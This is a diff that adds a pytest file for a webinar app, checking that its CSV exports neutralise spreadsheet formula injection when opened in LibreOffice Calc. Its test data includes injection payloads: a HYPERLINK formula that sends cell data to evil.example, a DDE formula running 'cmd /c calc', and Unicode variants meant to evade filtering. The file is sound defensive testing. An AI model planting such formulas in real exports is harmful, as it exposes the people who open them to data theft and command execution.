@@ -1,0 +1,125 @@
+"""Tables opened by a spreadsheet program: no cell is a formula, and each says what was typed."""
+
+import shutil
+
+import pytest
+from sqlalchemy import update
+
+from tests.conftest import needs
+from tests.questions.asking import ask
+from tests.spreadsheet import AS_TEXT, BY_ITSELF, EAGER, Calc
+from webinars.admission.inviting import Somebody, invite_all
+from webinars.admission.models import Invitee
+from webinars.database import transaction
+from webinars.registration.models import Registration
+from webinars.safety import csv
+
+# What is typed, and what stands in the cell.
+FORMULAS = {
+    "=1+1": "'=1+1",
+    "+1+1": "'+1+1",
+    "-1+1": "'-1+1",
+    "@SUM(A1)": "'@SUM(A1)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\n=1+1",
+    "\n=1+1": "'\n=1+1",
+    " =1+1": "' =1+1",
+    "\u200b=1+1": "'\u200b=1+1",
+    "＝1+1": "'＝1+1",
+    "＋1+1": "'＋1+1",
+    "－1+1": "'－1+1",
+    "＠SUM(A1)": "'＠SUM(A1)",
+    '=HYPERLINK("https://evil.example/?"&B2,"Ann")': '\'=HYPERLINK("https://evil.example/?"&B2,"Ann")',
+    '=DDE("cmd";"/c calc";"x")': '\'=DDE("cmd";"/c calc";"x")',
+    '"=1+1': '"=1+1',
+    '",=1+1,"': '",=1+1,"',
+    'Ann"\r\n=1+1': 'Ann"\n=1+1',
+    ";=1+1": ";=1+1",
+}
+WORDS = [
+    'Ann "the best", O\'Neill',
+    "two\nlines",
+    "a\ttab",
+    "  spaces  between  ",
+    "رانيا الخطيب",
+    "聯合國人權事務高級專員辦事處",
+    "ann@example.org",
+]
+# What spreadsheets like to take for a number or a date.
+NUMBERS = ["0041791234567", "12345678901234567890", "1e5", "3/4", "TRUE", "5%", "2027-07-16"]
+
+
+@pytest.fixture(scope="module")
+def calc(tmp_path_factory):
+    """Give Debian's LibreOffice Calc."""
+    program = shutil.which("soffice")
+    needs(program, "LibreOffice Calc (libreoffice-calc-nogui)")
+    return Calc(program, tmp_path_factory.mktemp("calc"))
+
+
+@pytest.fixture(scope="module")
+def typed():
+    """Give everything that people type here, and what should stand in its cell."""
+    return {**FORMULAS, **{each: each for each in (*WORDS, *NUMBERS)}}
+
+
+@pytest.fixture
+def tables(signed_in, make_event, make_registration, typed):
+    """Give the two tables of an event, whose people and guests are called all that."""
+    event = make_event()
+    ask(event, label="=1+1")
+    people = [Somebody("Ann", f"{number}@example.org") for number, _ in enumerate(typed)]
+    for each in people:
+        make_registration(event, name=each.name, email=each.email)
+    with transaction() as session:
+        invite_all(session, event_id=event.id, people=people, language="en")
+        # As if no form had looked at it: forms take no tabs and line ends in a name.
+        for each, text in zip(people, typed, strict=True):
+            for table in (Registration, Invitee):
+                of_them = table.email == each.email
+                session.execute(update(table).where(of_them).values(name=text))
+            of_them = Registration.email == each.email
+            session.execute(update(Registration).where(of_them).values(affiliation=text))
+    return [
+        signed_in.get(f"/organise/events/{event.id}/{name}.csv").data
+        for name in ("registrations", "invitees")
+    ]
+
+
+def test_quoted_cells_read_as_text_say_what_was_typed(calc, tables, typed):
+    registrations, guests = calc.opened(tables, AS_TEXT)
+
+    assert {cell.kind for row in (*registrations, *guests) for cell in row} == {"string", ""}
+    assert said(registrations, 0) == said(guests, 0) == list(typed.values())
+    assert said(registrations, 2) == list(typed.values())
+    assert registrations[0][-1].text == "'=1+1"
+    assert said(registrations, 4) == ["2026-11-25 10:00"] * len(typed)
+
+
+@pytest.mark.parametrize("reads", [BY_ITSELF, EAGER], ids=["by itself", "eager"])
+def test_however_it_reads_no_cell_is_a_formula(calc, tables, typed, reads):
+    registrations, guests = calc.opened(tables, reads)
+
+    assert {cell.formula for row in (*registrations, *guests) for cell in row} == {""}
+    harmless = len(typed) - len(NUMBERS)
+    for shown in (said(registrations, 0), said(registrations, 2), said(guests, 0)):
+        assert shown[:harmless] == list(typed.values())[:harmless]
+
+
+def test_a_formula_would_be_seen(calc, monkeypatch):
+    """The control: the same table without the apostrophe."""
+    monkeypatch.setattr(csv, "harmless", lambda cell: cell)
+    table = b"".join(csv.lines([["Name"], *([each] for each in FORMULAS)]))
+
+    [rows] = calc.opened([table], EAGER)
+
+    assert [row[0].formula for row in rows if row[0].formula] == [
+        "of:=1+1",
+        'of:=HYPERLINK("https://evil.example/?"&[.B2];"Ann")',
+        'of:=DDE("cmd";"/c calc";"x")',
+    ]
+
+
+def said(rows, column):
+    """Return what one column says below its head."""
+    return [row[column].text for row in rows[1:]]
